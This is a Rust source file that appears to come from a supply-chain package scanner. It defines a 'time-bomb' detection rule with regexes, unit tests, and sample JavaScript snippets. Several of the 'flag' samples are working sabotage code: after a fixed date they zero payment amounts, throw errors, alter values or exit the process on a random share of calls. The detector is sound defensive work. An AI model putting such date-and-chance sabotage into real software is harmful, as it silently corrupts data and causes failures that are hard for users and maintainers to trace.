//! Rule `time-bomb`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, is_doc_path};

crate::declare_rule! {
    /// A branch armed by a fixed date and a dice roll together (`Date.now() > Date.UTC(2026, 2,
    /// 1) && Math.random() < 0.15`) that changes what the code returns or does (returns, throws,
    /// exits, assigns): sabotage that starts long after the release and strikes on a share of
    /// calls only, so the failures look random. Rollouts by date and sampling by chance each
    /// occur alone; a deprecation notice shown on a share of calls after a date only logs.
    /// `critical` in code that runs on install or `require`, `high` elsewhere.
    id: "time-bomb",
    category: Other,
    severity: Critical,
    capability: None,
    title: "sabotage armed by a date and chance",
    incident: "time-delayed sabotage packages (Socket, Nov 2025) that corrupt results or exit on a share of calls after dates set years ahead",
    case_file: "index.js",
    flag: ["const start = Date.UTC(2026, 2, 1);\nfunction key(s) {\n  if (Date.now() > start && Math.random() < 0.15) {\n    return s + '\\u200b';\n  }\n  return s;\n}\nmodule.exports = (s) => key(s).replace(/[.*]/g, '\\\\$&');",
           "const T = new Date('2027-08-01').getTime();\nexports.save = function (db, row) { if (new Date().getTime() >= T && Math.random() * 100 < 20) row.amount = 0; return db.insert(row) }",
           "const MAINT = new Date('2027-01-15T00:00:00Z').getTime();\nexports.q = async (t) => { const now = Date.now(); if (now >= MAINT && Math.random() * 100 < 7) { const e = new Error('reset'); throw e } return run(t) }",
           "exports.fmt = (n) => { const roll = Math.random(); if (new Date().getFullYear() >= 2027 && roll < 0.1) return n * 1.01; return n }",
           "const armed = Date.now() > 1798761600000;\nexports.check = (x) => { if (armed && Math.random() < 0.2) { process.exit(1) } return x }"],
    pass: ["const SUNSET = Date.UTC(2026, 0, 1);\nexports.f = (x) => { if (Date.now() > SUNSET && Math.random() < 0.05) { console.warn('deprecated: use g()') } return x }",
           "const LAUNCH = Date.UTC(2026, 0, 1);\nexports.pick = () => { if (Date.now() > LAUNCH) return 'v2'; return 'v1' }\nexports.sample = () => { if (Math.random() < 0.1) return true; return false }",
           "const SUNSET = Date.UTC(2026, 5, 30);\nlet warned = false;\nexports.parse = (t) => { if (!warned && Date.now() > SUNSET && Math.random() < 0.05) { warned = true; process.emitWarning('v1 is past its sunset date') } return t }",
           "exports.retry = (start, ms) => { if (Date.now() - start > ms && Math.random() < 0.5) return wait(ms); return null }"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    // A moment written in the code: `Date.UTC(2026`, `new Date('2026-…')`, `new Date(2026, …)`,
    // `Date.parse('2026…')`, or epoch milliseconds from 2017 to 2046.
    let fixed = crate::regex!(
        r#"Date\.UTC\(\s*20\d\d|new Date\(\s*(?:['"`]20\d\d|20\d\d\s*,)|Date\.parse\(\s*['"`]20\d\d|\b1[5-9]\d{11}\b|\b2[0-4]\d{11}\b|getFullYear\(\)\s*[><]=?\s*20\d\d"#
    );
    let clock = crate::regex!(
        r"Date\.now\(\)|new Date\(\)|\+\s*new Date\b|getFullYear\(\)|performance\.timeOrigin"
    );
    let dice = crate::regex!(r"Math\.random\(\)|\brandomInt\(|getRandomValues\(");
    let cond_re = crate::regex!(r"\bif\s*\(");
    for f in code_files(pkg) {
        if is_doc_path(&f.path) || f.js.is_none() {
            continue;
        }
        let text = f.text.as_str();
        if !crate::mentions!(text, ["random", "Random"])
            || !crate::mentions!(text, ["Date", "getFullYear", "timeOrigin"])
        {
            continue;
        }
        // Names bound to a fixed moment, or to a clock compared with one (`armed`).
        let mut dates: Vec<&str> = Vec::new();
        let mut armed: Vec<&str> = Vec::new();
        let mut clocks: Vec<&str> = Vec::new();
        let mut rolls: Vec<&str> = Vec::new();
        for (n, v) in bindings(text).take(4096) {
            if !fixed.is_match(v) && clock.is_match(v) && !v.contains(['<', '>']) {
                // `const now = Date.now()`
                clocks.push(n);
            }
            if dice.is_match(v) && !v.contains(['<', '>']) {
                // `const roll = Math.random()`
                rolls.push(n);
            }
            if fixed.is_match(v) {
                if clock.is_match(v) && v.contains(['<', '>']) {
                    armed.push(n);
                } else {
                    dates.push(n);
                }
            }
        }
        let names = |s: &str, list: &[&str]| {
            list.iter().any(|n| {
                s.match_indices(n).any(|(i, _)| {
                    let before = s[..i].chars().next_back();
                    let after = s[i + n.len()..].chars().next();
                    !before.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$')
                        && !after.is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$')
                })
            })
        };
        let mut hit = None;
        for m in cond_re.find_iter(text).take(20_000) {
            let Some(cond) = balanced(text, m.end() - 1, 400) else {
                continue;
            };
            if !dice.is_match(cond) && !names(cond, &rolls) {
                continue;
            }
            let dated = (clock.is_match(cond) || names(cond, &clocks))
                && cond.contains(['<', '>'])
                && (fixed.is_match(cond) || names(cond, &dates))
                || names(cond, &armed);
            if !dated {
                continue;
            }
            // What the branch does: one statement or a block.
            let after = m.end() - 1 + cond.len() + 2;
            let rest = text.get(after..).unwrap_or("").trim_start();
            let body = if rest.starts_with('{') {
                balanced(rest, 0, 600).unwrap_or("")
            } else {
                let end = rest.find([';', '\n']).unwrap_or(rest.len()).min(300);
                &rest[..end]
            };
            let acts = crate::regex!(
                r"\breturn\b|\bthrow\b|process\.exit|process\.kill|(?:^|[^=!<>])=(?:[^=]|$)|\+\+|--|\.splice\(|\.reverse\(|\.fill\("
            );
            // A once-flag (`warned = true`) is bookkeeping, not an effect.
            let flags = crate::regex!(r"[A-Za-z_$][\w$.]*\s*=\s*(?:true|false|!0|!1)\s*(?:;|$)");
            let body = flags.replace_all(body, "");
            if acts.is_match(&body) {
                hit = Some(m.start() as u32);
                break;
            }
        }
        let Some(off) = hit else { continue };
        let sev = if pkg.is_install_file(f) || pkg.is_entry_file(f) {
            Severity::Critical
        } else {
            Severity::High
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            off,
            "after a fixed date, changes what the code does on a random share of calls",
        );
    }
}

/// The matches of `(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*([^;\n]{1,200})` in `text`, as
/// (name, value), found the same way: the regex up to the value's first character, then the
/// value extended by hand. The same matches (a match at a place exists with a value of one
/// character whenever it exists at all, and the greedy value takes what follows), without the
/// 200-fold repetition that made the lazy DFA rebuild its states on every match of large bundles.
fn bindings(text: &str) -> impl Iterator<Item = (&str, &str)> {
    let head = crate::regex!(r"(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*[^;\n]");
    let mut at = 0;
    std::iter::from_fn(move || {
        let c = head.captures_at(text, at)?;
        let (m, n) = (c.get(0)?, c.get(1)?);
        // The value's first character is the last one of the match.
        let first = text[..m.end()].chars().next_back()?;
        let start = m.end() - first.len_utf8();
        let end = text[m.end()..]
            .char_indices()
            .take(199)
            .find(|&(_, ch)| ch == ';' || ch == '\n')
            .map_or_else(
                || {
                    // All of the next 199 characters (or the rest) belong to the value.
                    text[m.end()..]
                        .char_indices()
                        .nth(199)
                        .map_or(text.len(), |(i, _)| m.end() + i)
                },
                |(i, _)| m.end() + i,
            );
        at = end;
        Some((n.as_str(), &text[start..end]))
    })
}

/// The text between the bracket at `open` and its partner (without them), if it closes within
/// `max` bytes. Strings and comments are not skipped: a condition or a short block is scanned.
fn balanced(text: &str, open: usize, max: usize) -> Option<&str> {
    let b = text.as_bytes();
    let (o, c) = match b.get(open)? {
        b'(' => (b'(', b')'),
        b'{' => (b'{', b'}'),
        _ => return None,
    };
    let mut depth = 0usize;
    for (i, &ch) in b.iter().enumerate().skip(open).take(max) {
        if ch == o {
            depth += 1;
        } else if ch == c {
            depth -= 1;
            if depth == 0 {
                return text.get(open + 1..i);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use crate::model::Severity;

    #[test]
    fn a_bomb_in_a_tool_file_is_high_and_in_library_code_critical() {
        let bomb = "const start = Date.UTC(2026, 2, 1);\nfunction k(s) { if (Date.now() > start && Math.random() < 0.15) { return s + 'x' } return s }\nmodule.exports = k\n";
        let sev = |case: &str| -> Vec<Severity> {
            crate::rules::testing::run(&super::RULE, "index.js", case)
                .into_iter()
                .map(|h| h.severity)
                .collect()
        };
        assert_eq!(sev(bomb), vec![Severity::Critical]);
        let tool = format!(
            "=== package.json\n{{\"name\":\"t\",\"version\":\"1.0.0\",\"main\":\"lib.js\",\"bin\":{{\"t\":\"bin/t.js\"}}}}\n=== lib.js\nmodule.exports = 1\n=== bin/t.js\n{bomb}"
        );
        assert_eq!(sev(&tool), vec![Severity::High]);
    }

    #[test]
    fn bindings_are_the_matches_of_the_whole_regex() {
        let whole =
            regex::Regex::new(r"(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*([^;\n]{1,200})")
                .unwrap();
        let long = format!(
            "const big = {};\nlet b2 = {}",
            "é".repeat(300),
            "x".repeat(199)
        );
        let cases = [
            "const a = Date.now(); let b=Math.random()\nvar c = 1;",
            "const x = \n;var y =  ; z",
            "const x = \n\nfoo;let é = 2; let ok$ = é+1",
            "varconst q=1;constlet r = 2",
            "let a = ;let b = \n x; const",
            "const a =",
            "const a = b",
            "x = 1; const   emptyValue   =   ",
            long.as_str(),
        ];
        for case in cases {
            let want: Vec<(&str, &str)> = whole
                .captures_iter(case)
                .map(|c| (c.get(1).unwrap().as_str(), c.get(2).unwrap().as_str()))
                .collect();
            let got: Vec<(&str, &str)> = super::bindings(case).collect();
            assert_eq!(got, want, "{case:?}");
        }
    }

    #[test]
    fn unbalanced_brackets_give_up() {
        assert_eq!(super::balanced("if (a && (b", 3, 100), None);
        assert_eq!(super::balanced("if (a && (b)) x", 3, 100), Some("a && (b)"));
        assert_eq!(super::balanced("é(", 2, 100), None);
    }
}
